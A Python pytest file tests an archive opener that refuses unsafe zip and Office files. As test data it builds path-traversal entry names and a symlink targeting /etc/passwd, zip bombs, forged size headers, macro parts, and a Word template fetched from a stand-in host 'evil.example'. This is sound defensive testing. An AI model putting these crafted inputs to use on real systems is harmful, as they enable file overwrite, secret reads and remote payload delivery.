"""Archives: what hides, lies or swells is refused before anything is used."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable

import pytest

from loa.lib.archive import ArchiveLimits, BadArchive, open_office, open_zip


def make_zip(*entries: tuple[str | zipfile.ZipInfo, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, data in entries:
            archive.writestr(name, data, method)
    return out.getvalue()


def reason(
    data: bytes, limits: ArchiveLimits | None = None, door: Callable[..., object] = open_zip
) -> object:
    with pytest.raises(BadArchive) as caught:
        door(data, limits)
    return caught.value.facts["reason"]


def test_it_opens_a_plain_archive_and_reads_its_entries() -> None:
    archive = open_zip(make_zip(("a.txt", b"1"), ("b/c.txt", b"22")))
    assert archive.names == ("a.txt", "b/c.txt")
    assert archive.read("b/c.txt") == b"22"
    with pytest.raises(KeyError):
        archive.read("none")


@pytest.mark.parametrize("name", ["/etc/passwd", "../a", "a/../../b", "C:/a", "a\\b", "a\nb"])
def test_it_refuses_names_that_leave_the_folder(name: str) -> None:
    assert reason(make_zip((name, b"x"))) == "bad_name"


def test_it_refuses_a_symbolic_link() -> None:
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    assert reason(make_zip((link, b"/etc/passwd"))) == "link"


@pytest.mark.parametrize("other", ["a.txt", "A.TXT"])
def test_it_refuses_doubled_names(other: str) -> None:
    assert reason(make_zip(("a.txt", b"1"), (other, b"2"))) == "doubled_name"


def test_it_refuses_too_many_entries() -> None:
    assert reason(make_zip(*((str(i), b"") for i in range(11))), ArchiveLimits(entries=10)) == "too_many"


def test_it_refuses_a_bomb_by_ratio_and_by_total() -> None:
    assert reason(make_zip(("a", b"0" * 30_000_000))) == "too_large"
    many = [(str(i), b"0" * 900_000) for i in range(5)]
    assert reason(make_zip(*many), ArchiveLimits(unpacked=3_000_000)) == "too_large"


def test_it_does_not_believe_a_small_size_written_in_the_directory() -> None:
    data = bytearray(make_zip(("a", b"0" * 900_000)))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.find(signature) + offset
        data[place : place + 4] = struct.pack("<I", 10)
    assert reason(bytes(data)) == "lying_size"


def test_it_refuses_an_encrypted_entry() -> None:
    data = bytearray(make_zip(("a", b"x")))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(signature) + offset] |= 1
    assert reason(bytes(data)) == "encrypted"


def test_it_refuses_unusual_compression() -> None:
    assert reason(make_zip(("a", b"x"), method=zipfile.ZIP_LZMA)) == "method"


@pytest.mark.parametrize("cut", [0, 10, 60])
def test_it_refuses_a_broken_archive(cut: int) -> None:
    assert reason(make_zip(("a", b"x" * 100))[:cut]) == "bad_archive"


def test_it_refuses_an_entry_whose_bytes_were_changed() -> None:
    data = bytearray(make_zip(("a", b"x" * 100), method=zipfile.ZIP_STORED))
    data[40] ^= 1
    assert reason(bytes(data)) == "bad_archive"


@pytest.mark.parametrize(
    "part", ["xl/vbaProject.bin", "xl/activeX/activeX1.xml", "xl/macrosheets/sheet1.xml", "a.exe"]
)
def test_it_refuses_macros_in_office_files(part: str) -> None:
    assert reason(make_zip(("[Content_Types].xml", b"<Types/>"), (part, b"x")), door=open_office) == "macro"


def test_it_refuses_a_document_that_fetches_its_template() -> None:
    rels = (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    assert reason(make_zip(("word/_rels/settings.xml.rels", rels)), door=open_office) == "remote"


def test_it_takes_an_office_file_with_an_ordinary_link() -> None:
    rels = (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="https://hanoi.gov.vn" TargetMode="External"/></Relationships>'
    )
    assert open_office(make_zip(("word/_rels/document.xml.rels", rels))).names
